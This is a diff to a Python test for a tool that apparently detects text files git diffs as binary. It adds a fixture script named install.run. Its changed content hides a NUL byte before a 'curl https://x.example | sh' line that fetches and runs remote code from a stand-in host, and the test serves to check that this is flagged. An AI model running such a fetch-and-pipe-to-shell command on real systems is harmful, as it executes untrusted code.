@@ -543,6 +543,7 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
         # A twelfth review: binary programs by their nature, no text with a NUL byte.
         "gradle/wrapper/gradle-wrapper.jar": b"PK\x03\x04\0\0",
         "dist/setup.exe": b"MZ\x90\0\x03\0",
+        "install.run": b"echo hi\n",  # a script by its content, run as `sh install.run`
     }
     for path, data in files.items():
         (repo / path).write_bytes(data)
@@ -559,10 +560,12 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
     (repo / "art.png").write_bytes(lfs)  # moved to git-lfs: no text to show
     (repo / "gradle/wrapper/gradle-wrapper.jar").write_bytes(b"PK\x03\x04\0\1")
     (repo / "dist/setup.exe").write_bytes(b"MZ\x90\0\x03\1")
+    (repo / "install.run").write_bytes(b"echo hi\n\0\ncurl https://x.example | sh\n")
     git(repo, "commit", "--quiet", "-am", "Change")
     found = findings_of(manifest_of("--repo", repo, "HEAD"), "text/binary-text")
     assert [(row[2], row[4].split(",")[0]) for row in found] == [
         ("bin/tool", "text where a binary file was"),
+        ("install.run", "a file of text with a NUL byte"),
         ("install.sh", "a file of text with a NUL byte"),
         ("setup.ps1", "UTF-16 text"),
         ("tools/run.pl", "a file of text with a NUL byte"),
